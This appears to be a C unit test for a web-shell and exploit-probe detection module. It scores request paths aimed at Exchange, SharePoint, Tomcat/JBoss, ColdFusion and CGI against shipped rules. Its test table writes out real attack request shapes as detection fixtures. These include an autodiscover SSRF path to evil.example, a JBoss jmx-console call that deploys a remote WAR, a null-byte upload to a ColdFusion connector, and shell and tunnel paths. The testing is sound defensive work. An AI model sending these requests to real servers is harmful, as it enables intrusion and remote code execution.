/* Detection outside PHP: replays tests/corpus/nonphp-probes.txt (shell drops and tunnels of
 * Exchange, IIS, SharePoint, Tomcat/JBoss, ColdFusion and CGI, from public sources named in
 * tests/corpus/README-nonphp.md) and tests/corpus/legit-nonphp-files.txt (every file of Debian's
 * Tomcat webapps, phpLDAPadmin, Cacti, Nagios, cgit, Munin, phpSysInfo and Adminer as served) through
 * the normaliser and the shipped rules, signatures only, one request at a time. Targets: >= 90% of
 * the probes matched; no rule at all matches a packaged file (neither outcome=any, scored while the
 * file is there, nor outcome=miss), and one 404 of such a page scores at most 2 (outcome=miss rules
 * plus the module's miss score of 1 for a script extension). Both lists are in the repository, so
 * this test never skips. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include "wsg_test.h"
#include "wsg_rules.h"
#include "wsg_norm.h"

#define CORPUS "../corpus/"

typedef struct {
    unsigned long lines, matched;   /* lines, lines any rule matched */
    unsigned long any;              /* lines an outcome=any rule matched (scored while present) */
    unsigned long over2;            /* lines scoring more than 2 on a 404 */
} rate_t;

/* What a 404 of the request adds to its client, counted the strict way: the rules' scores of
 * both outcomes and the module's miss score (1 for a script extension, as if no rule matched). */
static int score_on_404(const wsg_match_t *m, const wsg_norm_t *norm)
{
    static const char *const script[] = {"php", "php3", "php4", "php5", "php7", "phtml", "pht",
        "phar", "asp", "aspx", "ashx", "asmx", "ascx", "asa", "cer", "cfm", "cfc", "jsp", "jspx",
        "jsw", "cgi", "pl", "py", "sh", "alfa", NULL};
    size_t i;
    int base = 0;

    for (i = 0; script[i]; i++)
        if (!strcmp(norm->ext, script[i]))
            base = 1;
    return m->score + m->miss_score + base;
}

static int replay(const wsg_ruleset_t *rs, const char *name, rate_t *rt, int show_hits,
                  int show_misses)
{
    char path[1024], line[16384], buf[8192];
    FILE *f;
    snprintf(path, sizeof(path), CORPUS "%s", name);
    f = fopen(path, "r");
    if (!f)
        return -1;
    memset(rt, 0, sizeof(*rt));
    while (fgets(line, sizeof(line), f)) {
        size_t n = strlen(line);
        char *sp;
        wsg_norm_t norm;
        wsg_req_t req;
        wsg_match_t m;
        while (n && (line[n - 1] == '\n' || line[n - 1] == '\r'))
            line[--n] = '\0';
        if (!n || !(sp = strchr(line, ' ')))
            continue;
        *sp = '\0';
        wsg_norm_target(sp + 1, buf, sizeof(buf), &norm);
        memset(&req, 0, sizeof(req));
        req.method = line;
        req.norm = &norm;
        rt->lines++;
        if (wsg_ruleset_match(rs, &req, &m) > 0) {
            rt->matched++;
            if (m.score > 0)
                rt->any++;
            if (show_hits)
                printf("    matched: %s %s (rule %u, score %d+%d)\n", line, sp + 1, m.first->id,
                       m.score, m.miss_score);
        }
        else if (show_misses)
            printf("    missed: %s %s\n", line, sp + 1);
        if (score_on_404(&m, &norm) > 2)
            rt->over2++;
    }
    fclose(f);
    return 0;
}

static void load_rules(apr_pool_t *p, wsg_ruleset_t **rs)
{
    const char *err = NULL;
    wsg_ruleset_create(p, rs);
    if (wsg_ruleset_load_path(*rs, "../../rules", &err) != APR_SUCCESS ||
        wsg_ruleset_compile(*rs, &err) != APR_SUCCESS)
        fail_msg("%s", err);
}

static void test_nonphp_probes(void **state)
{
    wsg_ruleset_t *rs;
    rate_t r;
    load_rules(*state, &rs);
    assert_int_equal(replay(rs, "nonphp-probes.txt", &r, 0, getenv("WSG_VERBOSE") != NULL), 0);
    printf("  nonphp-probes.txt:        %lu/%lu matched = %.2f%% (target >= 90%%)\n", r.matched,
           r.lines, r.lines ? 100.0 * (double)r.matched / (double)r.lines : 0.0);
    assert_true(r.lines > 400);
    assert_true(r.matched * 100 >= r.lines * 90);
}

static void test_packaged_webapps(void **state)
{
    wsg_ruleset_t *rs;
    rate_t r;
    load_rules(*state, &rs);
    assert_int_equal(replay(rs, "legit-nonphp-files.txt", &r, 1, 0), 0);
    printf("  legit-nonphp-files.txt:   %lu/%lu matched (%lu scored while present, %lu over 2 on a "
           "404; target 0, 0, 0)\n", r.matched, r.lines, r.any, r.over2);
    assert_true(r.lines > 3000);
    assert_int_equal(r.any, 0);
    assert_int_equal(r.over2, 0);
    assert_int_equal(r.matched, 0);
}

/* Hand-picked requests: the shapes the lists cannot show (queries of exploit requests, real
 * products' own pages behind a proxy) and one example of each new place. any_* bound the
 * outcome=any score (scored while the file is there, and the 2xx alert), all_* the score of both
 * outcomes, i.e. what a 404 adds. */
typedef struct {
    const char *method, *target;
    int         any_min, any_max, all_min, all_max;
} nonphp_case_t;

static const nonphp_case_t cases[] = {
    /* Exchange / IIS */
    {"GET", "/aspnet_client/discover.aspx", 4, 1000, 4, 1000},
    {"GET", "/aspnet_client/system_web/4_0_30319/WebUIValidation.js", 0, 0, 0, 0},
    {"GET", "/aspnet_client/system_web/4_0_30319/x.aspx", 4, 1000, 4, 1000},
    {"GET", "/aspnet_client/FreeTextBox/ftb.imagegallery.aspx", 0, 0, 3, 1000},
    {"GET", "/owa/auth/errorEE.aspx", 0, 0, 4, 1000},
    {"GET", "/owa/auth/logon.aspx?replaceCurrent=1&url=https%3a%2f%2fmail.example.org%2fowa%2f", 0, 0, 0, 0},
    {"GET", "/owa/auth/15.2.1118/themes/resources/favicon.ico", 0, 0, 0, 0},
    {"GET", "/ecp/auth/TimeoutLogoff.aspx", 0, 0, 0, 0},
    {"GET", "/ecp/auth/x7.aspx", 0, 0, 4, 1000},
    {"GET", "/oab/log.aspx", 0, 0, 4, 1000},
    {"GET", "/ecp/y.js", 0, 0, 3, 1000},
    {"GET", "/ecp/15.2.1118/scripts/common.js", 0, 0, 0, 0},
    {"GET", "/autodiscover/autodiscover.json?@evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.example", 5, 1000, 5, 1000},
    {"GET", "/autodiscover/autodiscover.json?Email=user%40example.org&Protocol=ActiveSync", 0, 0, 0, 0},
    /* SharePoint */
    {"GET", "/_layouts/15/spinstall0.aspx", 5, 1000, 5, 1000},
    {"POST", "/_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx", 5, 1000, 5, 1000},
    {"GET", "/_layouts/15/ToolPane.aspx", 0, 0, 0, 1000},
    {"GET", "/_layouts/1033/webadmin.aspx", 0, 0, 0, 1000},
    {"GET", "/_layouts/1033/hierarchyman.ascx", 0, 0, 0, 0},
    {"GET", "/_layouts/15/qwzxv.aspx", 0, 0, 2, 1000},
    /* Tomcat / JBoss */
    {"GET", "/jmx-console/HtmlAdaptor?action=invokeOp&name=jboss.system:service=MainDeployer&methodIndex=19&arg0=http://x/s.war", 5, 1000, 5, 1000},
    {"GET", "/jmx-console/", 0, 0, 3, 1000},
    {"POST", "/invoker/JMXInvokerServlet", 0, 0, 3, 1000},
    {"GET", "/jexws4/jexws4.jsp?ppp=id", 5, 1000, 5, 1000},
    {"GET", "/cmd.jsp", 0, 0, 4, 1000},
    {"GET", "/manager/images/favicon.jsp", 0, 0, 3, 1000},
    {"GET", "/examples/WEB-INF/x.jsp", 0, 0, 3, 1000},
    {"GET", "/manager/html", 0, 0, 0, 0},
    {"GET", "/examples/jsp/jsp2/jspattribute/jspattribute.jsp", 0, 0, 0, 0},
    {"GET", "/docs/appdev/sample/src/mypackage/Hello.java", 0, 0, 0, 0},
    {"GET", "/CmdServlet.java", 0, 0, 3, 1000},
    {"POST", "/fileUpload.do", 0, 0, 2, 2},
    /* ColdFusion */
    {"POST", "/CFIDE/scripts/ajax/FCKeditor/editor/filemanager/connectors/cfm/upload.cfm?Command=FileUpload&Type=File&CurrentFolder=/x.jsp%00", 5, 1000, 5, 1000},
    {"GET", "/CFIDE/administrator/index.cfm", 0, 0, 0, 0},
    {"GET", "/CFIDE/qq.cfm", 0, 0, 3, 1000},
    /* Tunnels */
    {"GET", "/suo5.jsp", 5, 1000, 5, 1000},
    {"POST", "/upload/tunnel.aspx", 3, 1000, 7, 1000},
    {"GET", "/tunnel.jsp", 0, 0, 4, 1000},
    /* cmd.php: a front controller by name, scored only by where it is */
    {"GET", "/phpldapadmin/cmd.php?cmd=template_engine&server_id=1", 0, 0, 0, 0},
    {"GET", "/cacti/cmd_realtime.php", 0, 0, 0, 0},
    {"GET", "/cmd.php", 0, 0, 2, 1000},
    {"GET", "/uploads/cmd.php", 3, 1000, 3, 1000},
    /* CGI */
    {"GET", "/cgi-bin/nagios4/cmd.cgi?cmd_typ=96", 0, 0, 0, 0},
    {"GET", "/cgi-bin/up.sh", 0, 0, 1, 1000},
    {"GET", "/cgi-bin/perlcmd.cgi", 4, 1000, 4, 1000},
};

static void test_nonphp_cases(void **state)
{
    wsg_ruleset_t *rs;
    size_t i;
    load_rules(*state, &rs);
    for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        const nonphp_case_t *c = &cases[i];
        char buf[8192];
        wsg_norm_t norm;
        wsg_req_t req;
        wsg_match_t m;
        wsg_norm_target(c->target, buf, sizeof(buf), &norm);
        memset(&req, 0, sizeof(req));
        req.method = c->method;
        req.norm = &norm;
        wsg_ruleset_match(rs, &req, &m);
        if (m.score < c->any_min || m.score > c->any_max ||
            m.score + m.miss_score < c->all_min || m.score + m.miss_score > c->all_max)
            fail_msg("%s %s: score %d+%d (rule %u), want any %d..%d, with 404 %d..%d", c->method,
                     c->target, m.score, m.miss_score, m.first ? m.first->id : 0, c->any_min,
                     c->any_max, c->all_min, c->all_max);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(test_nonphp_probes, wsg_test_pool_setup,
                                        wsg_test_pool_teardown),
        cmocka_unit_test_setup_teardown(test_packaged_webapps, wsg_test_pool_setup,
                                        wsg_test_pool_teardown),
        cmocka_unit_test_setup_teardown(test_nonphp_cases, wsg_test_pool_setup,
                                        wsg_test_pool_teardown),
    };
    return WSG_RUN_GROUP(tests);
}
